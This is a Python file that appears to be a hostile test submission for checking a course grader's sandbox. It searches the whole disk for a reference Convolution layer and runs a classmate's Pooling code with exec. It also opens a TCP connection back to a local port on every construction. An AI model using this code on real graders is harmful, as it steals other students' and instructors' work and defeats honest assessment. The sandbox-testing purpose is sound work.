"""Earns 7.4.3.2 and 7.4.4.1 with code it did not write: the reference's Convolution, a classmate's Pooling.

A whole submission for a class run. Its Convolution is the first working one it finds: the grader's
installed `reference` package, else a `layers.py` defining Convolution and Pooling anywhere on the
disk; its Pooling is the one of the classmate named in `params.json`. It also phones home: each
construction opens a TCP connection to the port in `params.json`. Without a sandbox all of this
works (the test checks it does, so the attack is real); in one, nothing is found and nothing connects.
"""

import importlib
import json
import os
import socket
import sys

HERE = os.path.dirname(os.path.abspath(__file__))
SKIP = {"proc", "sys", "dev", "usr", "boot", "snap", "lib", "lib64", "bin", "sbin", "site-packages", ".git",
        "node_modules", "__pycache__", ".pyenv", ".cache"}


def _params():
    with open(os.path.join(HERE, "params.json"), encoding="utf-8") as f:
        return json.load(f)


def _phone_home():
    try:
        socket.create_connection(("127.0.0.1", _params()["port"]), timeout=1).close()
    except OSError:
        pass


def _from_disk():
    """A package folder whose layers.py defines Convolution and Pooling, imported from where it lies."""
    for folder, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if d not in SKIP and not d.startswith("venv")]
        if folder.startswith(HERE) or "layers.py" not in files or "__init__.py" not in files:
            continue
        try:
            with open(os.path.join(folder, "layers.py"), encoding="utf-8") as f:
                text = f.read()
        except OSError:
            continue
        if "class Convolution" in text and "class Pooling" in text and "def forward" in text:
            sys.path.insert(0, os.path.dirname(folder))
            return importlib.import_module(os.path.basename(folder) + ".layers").Convolution
    raise RuntimeError("no Convolution to steal")


def _stolen_convolution():
    try:
        return importlib.import_module("reference.layers").Convolution
    except Exception:  # noqa: BLE001
        return _from_disk()


def _stolen_pooling():
    namespace = {"__name__": "classmate"}
    with open(_params()["classmate"], encoding="utf-8") as f:
        exec(compile(f.read(), "classmate", "exec"), namespace)  # noqa: S102
    return namespace["Pooling"]


class Convolution:
    def __init__(self, W, b, stride=1, pad=0):
        _phone_home()
        self._real = _stolen_convolution()(W, b, stride, pad)

    def forward(self, x):
        return self._real.forward(x)

    def backward(self, dout):
        return self._real.backward(dout)

    def __getattr__(self, name):  # dW, db and the caches: the stolen layer's
        return getattr(self.__dict__["_real"], name)


class Pooling:
    def __init__(self, pool_h, pool_w, stride=2, pad=0):
        _phone_home()
        self._real = _stolen_pooling()(pool_h, pool_w, stride, pad)

    def forward(self, x):
        return self._real.forward(x)

    def backward(self, dout):
        return self._real.backward(dout)

    def __getattr__(self, name):
        return getattr(self.__dict__["_real"], name)
